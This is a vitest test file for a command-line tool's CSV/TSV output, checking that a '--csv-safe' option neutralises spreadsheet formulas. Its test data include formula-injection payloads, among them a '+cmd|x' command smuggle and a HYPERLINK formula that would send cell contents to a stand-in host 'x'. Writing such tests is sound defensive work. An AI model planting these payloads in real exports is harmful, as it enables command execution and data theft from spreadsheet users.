import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { listing, renderListing } from '../../src/output/listing.js';
import { noNames, render } from '../../src/output/render.js';
import { lines, record, rowsTable, type View } from '../../src/output/view.js';
import { globus } from '../support/globus.js';
import { fakeApi } from '../support/fake-api.js';

const all = async (
  rows: readonly unknown[],
  view: View<never>,
  options: { csvSafe?: boolean; format: 'csv' | 'tsv' },
) => {
  let text = '';
  for await (const piece of renderListing(listing(rows), view as View<unknown>, options, () =>
    Promise.resolve(noNames),
  ))
    text += piece;
  return text;
};

describe('--csv-safe', () => {
  const one = (text: unknown, csvSafe = true) =>
    parse(render({ a: text }, record<{ a: unknown }>({ A: 'a' }), { format: 'csv', csvSafe }))[1]?.[0];
  test.each([
    '=1+1',
    '+cmd|x',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '  =1',
    '\n=1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠x',
    '−2+3',
    '\u200b=1',
    '-',
    '=HYPERLINK("http://x/?"&A1)',
  ])('makes %j a text', (formula) => {
    expect(one(formula)).toBe(`'${formula}`);
    expect(one(formula, false)).toBe(formula);
  });
  test.each(['-5', '+1.5', '-.5e-3', '1e400', '', 'a=b', 'x@y.org', '2026-01-01', "'=1"])('leaves %j', (text) => {
    expect(one(text)).toBe(text);
  });
  test('guards headings, too, in every way to csv and tsv', async () => {
    const rows = [{ '=k': '@v' }];
    for (const format of ['csv', 'tsv'] as const) {
      const options = { format, csvSafe: true };
      expect(render(rows, rowsTable({}), { ...options, jmespath: '@' })).toBe("'=k\n'@v\n");
      expect(await all(rows, rowsTable({ '+a,b': '=k' as never }), options)).toBe(
        format === 'csv' ? '"\'+a,b"\n\'@v\n' : "'+a,b\n'@v\n",
      );
      expect(await all(rows, lines(() => '=1', '-x') as View<never>, options)).toBe("'-x\n'=1\n");
    }
  });
});

describe('lines as csv', () => {
  test('are quoted below their heading, as every cell is', async () => {
    const view = lines((text: string) => text, 'Name, "of" it') as View<never>;
    const rows = ['a,b', 'c"d', 'e\nf', 'g'];
    const text = await all(rows, view, { format: 'csv' });
    expect(parse(text)).toEqual([['Name, "of" it'], ...rows.map((row) => [row])]);
    expect(render(rows, view as View<unknown>, { format: 'csv' })).toBe(text);
    expect(await all(['a\tb'], view, { format: 'tsv' })).toBe('Name, "of" it\na\\tb\n');
    expect(await all([], view, { format: 'csv' })).toBe('"Name, ""of"" it"\n');
  });
  test('ls -F csv', async () => {
    const id = '11111111-2222-4333-8444-555555555555';
    const api = () =>
      fakeApi([
        {
          method: 'GET',
          url: `https://transfer.api.globus.org/v0.10/operation/endpoint/${id}/ls?show_hidden=0&path=/`,
          response: {
            DATA: ['a, b', '=1+1', 'say "x"'].map((name) => ({ DATA_TYPE: 'file', name, type: 'dir' })),
          },
        },
      ]);
    const { stdout } = await globus(['ls', `${id}:/`, '-F', 'csv', '--csv-safe'], { api: api() });
    expect(parse(stdout)).toEqual([['Filename'], ['a, b/'], ["'=1+1/"], ['say "x"/']]);
  });
});
